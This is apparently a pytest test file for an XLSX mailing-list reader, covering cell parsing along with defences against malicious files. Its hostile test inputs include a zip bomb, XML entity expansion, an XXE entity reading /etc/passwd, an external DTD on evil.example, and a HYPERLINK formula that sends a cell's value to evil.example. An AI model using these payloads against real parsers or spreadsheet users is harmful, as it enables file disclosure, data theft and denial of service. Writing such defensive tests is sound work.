"""XLSX files, as people's programs write them and as nobody should."""

import random
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from newsletter import lists
from newsletter.lists import Refused, Row
from picum import spreadsheet
from picum.csvfile import Unreadable
from tests.newsletter.lists import HEAD, MAIN, cell, rows
from tests.newsletter.lists import spreadsheet as written

COLUMNS = ["email", "languages", "name"]
DAMAGED = "The spreadsheet is damaged and cannot be read."
TOO_LARGE = "The spreadsheet is too large to be read. Divide it, or save it as CSV."


@pytest.fixture
def path(tmp_path):
    return tmp_path / "readers"


def read(path) -> list[Row | Refused]:
    return list(lists.read(path))


def test_a_sheet_is_read_as_a_csv_file_is(path):
    table = rows(COLUMNS, ["amal@example.org", "pt es", "Amália “Zé”"], [], ["boris@example.org", "de"])
    assert read(written(path, table)) == [
        Row(2, "amal@example.org", "pt es", "Amália “Zé”"),
        Row(4, "boris@example.org", "de"),
    ]


def test_texts_that_sheets_share_are_found_also_in_several_fonts_and_without_how_they_are_spoken(path):
    shared = (
        "<si><t>email</t></si><si><t>languages</t></si><si><r><t>amal</t></r><r><t>@example.org</t></r></si>"
        '<si><t>fr</t><rPh sb="0" eb="1"><t>it</t></rPh></si>'
    )
    of = [[cell(str(at), kind="s") for at in pair] for pair in ((0, 1), (2, 3))]
    assert read(written(path, rows(*of), shared=shared)) == [Row(2, "amal@example.org", "fr")]


def test_cells_say_where_they_stand(path):
    table = (
        f'<row r="3">{cell("name", at="D3")}{cell("email", at="B3")}{cell("languages", at="AA3")}</row>'
        f'<row r="1000">{cell("amal@example.org", at="B1000")}{cell("en", at="AA1000")}</row>'
    )
    assert read(written(path, table)) == [Row(1000, "amal@example.org", "en")]


def test_of_a_formula_its_value_counts_and_what_has_none_is_nothing(path):
    value = '<c t="str"><f>HYPERLINK("https://evil.example/?"&amp;A1)</f><v>amal@example.org</v></c>'
    table = rows(COLUMNS, [value, cell("en")], ["<c><f>1+1</f></c>", cell("en")])
    assert read(written(path, table)) == [Row(2, "amal@example.org", "en"), Row(3, "", "en")]


@pytest.mark.parametrize(
    ("one", "read_as"),
    [
        (cell("45292", kind="n"), "45292"),  # also the first of January 2024
        (cell("1.5", kind="n"), "1.5"),
        (cell("1", kind="b"), "TRUE"),
        (cell("2026-01-02T00:00:00", kind="d"), "2026-01-02T00:00:00"),
        (cell("#N/A", kind="e"), "#N/A"),
        (cell("  amal@example.org\u00a0\n"), "amal@example.org"),
        (cell("amal_x0040_example.org"), "amal@example.org"),
    ],
)
def test_numbers_dates_and_errors_are_read_as_they_are_stored(path, one, read_as):
    assert read(written(path, rows(COLUMNS, [one, "en"]))) == [Row(2, read_as, "en")]


@pytest.mark.parametrize("escaped", ["_x0000_", "_x001B_", "_xD800_"])
def test_what_no_text_may_hold_costs_its_row_alone(path, escaped):
    table = rows(COLUMNS, ["amal@example.org", "en", f"Am{escaped}al"], ["boris@example.org", "en"])
    assert read(written(path, table)) == [
        Refused(2, "it contains characters that cannot be read"),
        Row(3, "boris@example.org", "en"),
    ]


def test_a_mistake_of_the_spreadsheet_is_nobodys_name(path):
    assert read(written(path, rows(COLUMNS, ["amal@example.org", "en", "#N/A"]))) == [Row(2, "amal@example.org", "en")]


def test_of_merged_cells_the_first_has_the_value(path):
    table = rows(COLUMNS, ["amal@example.org", "en"], ["<c/>", "de"])
    assert [row.email for row in read(written(path, table))] == ["amal@example.org", ""]


def test_the_first_sheet_that_can_be_seen_is_the_list(path):
    sheets = [rows(COLUMNS, [f"{name}@example.org", "en"]) for name in ("amal", "boris", "carla")]
    assert read(written(path, *sheets, states=["hidden", "veryHidden"]))[0].email == "carla@example.org"
    with pytest.raises(Unreadable, match=r"^The spreadsheet has no sheet that can be seen\.$"):
        read(written(path, sheets[0], states=["hidden"]))


def test_a_program_may_prefix_the_names_of_its_tags(path):
    sheet = f'{HEAD}<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{rows(COLUMNS, ["amal@example.org", "en"])}'
    sheet = sheet.replace("<c", "<x:c").replace("</c", "</x:c").replace("<row", "<x:row").replace("</row", "</x:row")
    sheet = sheet.replace("<is><t>", "<x:is><x:t>").replace("</t></is>", "</x:t></x:is>")
    path = written(path, "", sheet1=f"{sheet}</x:sheetData></x:worksheet>")
    assert read(path) == [Row(2, "amal@example.org", "en")]


def test_a_cell_that_is_far_too_long_costs_its_row_alone(path):
    table = rows(COLUMNS, ["amal@example.org", "en", "a" * 1_000_000], ["boris@example.org", "en"])
    assert read(written(path, table)) == [
        Refused(2, "it, or one of its cells, is far too long"),
        Row(3, "boris@example.org", "en"),
    ]


def test_what_stands_far_to_the_right_is_not_looked_at(path):
    table = f"<row>{cell('email')}{cell('languages')}</row>" + (
        f"<row>{cell('amal@example.org')}{cell('en')}{cell('x', at='XFD2')}{cell('x', at='ZZZZZZZZZZ2')}</row>"
    )
    assert read(written(path, table)) == [Row(2, "amal@example.org", "en")]


def test_a_sheet_has_a_million_rows_at_most(path):
    table = rows(COLUMNS) + f'<row r="1000000">{cell("amal@example.org")}{cell("en")}</row>'
    assert len(read(written(path, table))) == 1
    empty_below = f'<row r="1048576">{cell("")}</row>'
    assert len(read(written(path, table + empty_below))) == 1
    with pytest.raises(Unreadable, match=r"^The sheet has more than 1,000,000 rows\. Divide it\.$"):
        read(written(path, table + f'<row r="1000001">{cell("x")}</row>'))


# --- what comes from people who mean no good ----------------------------------------------------------------------


def test_a_bomb_is_not_unpacked(path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "UNPACKED", 1_000_000)
    written(path, rows(COLUMNS) + "<row></row>" * 200_000)
    assert path.stat().st_size < 50_000
    with pytest.raises(Unreadable, match=TOO_LARGE):
        read(path)
    for part in ("sharedStrings", "workbook"):
        with pytest.raises(Unreadable, match=TOO_LARGE):
            read(written(path, rows(COLUMNS), **{part: HEAD + " " * 2_000_000}))


def test_a_part_that_lies_about_its_size_is_damaged(path):
    written(path, rows(COLUMNS, ["amal@example.org", "en"]) + "<row></row>" * 100_000)
    with zipfile.ZipFile(path) as archive:
        true = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    path.write_bytes(path.read_bytes().replace(true.to_bytes(4, "little"), (2_000).to_bytes(4, "little")))
    with pytest.raises(Unreadable, match=DAMAGED):
        read(path)


@pytest.mark.parametrize("part", ["workbook", "sharedStrings", "sheet1"])
@pytest.mark.parametrize(
    "document_type",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
    ],
)
def test_no_part_may_define_entities(path, part, document_type):
    text = f"{HEAD}{document_type}<x>&a;</x>"
    with pytest.raises(Unreadable, match=DAMAGED):
        read(written(path, rows(COLUMNS), **{part: text}))


@pytest.mark.parametrize(
    "endless", ["<" + "a" * 8_000_000, '<c a="' + "a" * 8_000_000, "<!--" + "a" * 8_000_000, "<c>" * 200_000]
)
def test_neither_an_endless_tag_nor_tags_without_end_take_memory(path, endless):
    written(path, rows(COLUMNS) + "<row>" + endless)
    tracemalloc.start()
    with pytest.raises(Unreadable):
        read(path)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 4_000_000  # octets


def test_an_endless_row_takes_no_memory(path):
    written(path, rows(COLUMNS) + f"<row>{'<c><v>x</v></c>' * 30_000}</row>")
    tracemalloc.start()
    assert read(path) == [Refused(2, "it has more cells than the first line")]
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 500_000  # octets


def test_too_many_shared_texts_are_too_many(path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "SHARED", 1_000)
    with pytest.raises(Unreadable, match=TOO_LARGE):
        read(written(path, rows(COLUMNS), shared="<si/>" * 1_001))


@pytest.mark.parametrize(
    "parts",
    [
        {"sheet1": "no XML"},
        {"sheet1": b"\xff\xfe\x00"},
        {"sheet1": HEAD + "<worksheet><row><c>"},
        {"sheet1": HEAD + rows(["email"])},
        {"sheet1": f'{HEAD}<x><row r="2"/><row r="1"/></x>'},
        {"sheet1": f'{HEAD}<x><row r="one"/></x>'},
        {"sheet1": f"{HEAD}<x><row>{cell('7', kind='s')}</row></x>"},
        {"sheet1": f"{HEAD}<x><row>{cell('-', kind='s')}</row></x>"},
        {"sheet1": f"{HEAD}<x><row>{cell('x', at='1é')}</row></x>"},
        {"workbook": HEAD + "<workbook/>"},
    ],
)
def test_a_damaged_spreadsheet_is_said_to_be_one(path, parts):
    with pytest.raises(Unreadable):
        read(written(path, rows(COLUMNS), **parts))


def test_a_spreadsheet_with_a_password_in_its_parts_is_refused(path):
    content = bytearray(written(path, rows(COLUMNS)).read_bytes())
    for at in range(len(content) - 4):
        if content[at : at + 4] == b"PK\x01\x02":
            content[at + 8] |= 1
        elif content[at : at + 4] == b"PK\x03\x04":
            content[at + 6] |= 1
    path.write_bytes(content)
    with pytest.raises(Unreadable, match=DAMAGED):
        read(path)


@pytest.mark.parametrize("start", [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK"])
def test_files_of_other_programs_are_refused_with_what_to_do(path, start):
    if start == b"PK":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("content.xml", "OpenDocument")
    else:
        path.write_bytes(start + bytes(1_000))
    with pytest.raises(Unreadable, match=r"Save it as XLSX .*or as CSV\.$"):
        read(path)


def test_whatever_is_broken_in_a_file_it_is_a_sentence(path):
    dice = random.Random(7)
    whole = written(path, rows(COLUMNS, *[["amal@example.org", "en", "Amal"]] * 20)).read_bytes()
    ends = set()
    for _time in range(150):
        broken = bytearray(whole)
        for _byte in range(dice.randint(1, 4)):
            broken[dice.randrange(len(broken))] = dice.randrange(256)
        path.write_bytes(broken[: dice.choice([len(broken), dice.randrange(len(broken))])])
        try:
            ends.add(len(read(path)))
        except Unreadable as error:
            ends.add(str(error))
    assert len(ends) > 2


def test_what_a_real_program_wrote_is_read():
    """With its styles, a link, a date, a merged range, a formula and a second sheet."""
    path = Path(__file__).with_name("readers.xlsx")
    assert lists.sample(path).columns == {"email": 0, "languages": 1, "name": 2}
    assert read(path) == [
        Row(2, "amal@example.org", "pt es", "Amál <&> x"),
        Row(4, "42", "de", "3.5"),
        Row(5, "", "en"),
        Row(10, "merged@example.org", ""),
    ]
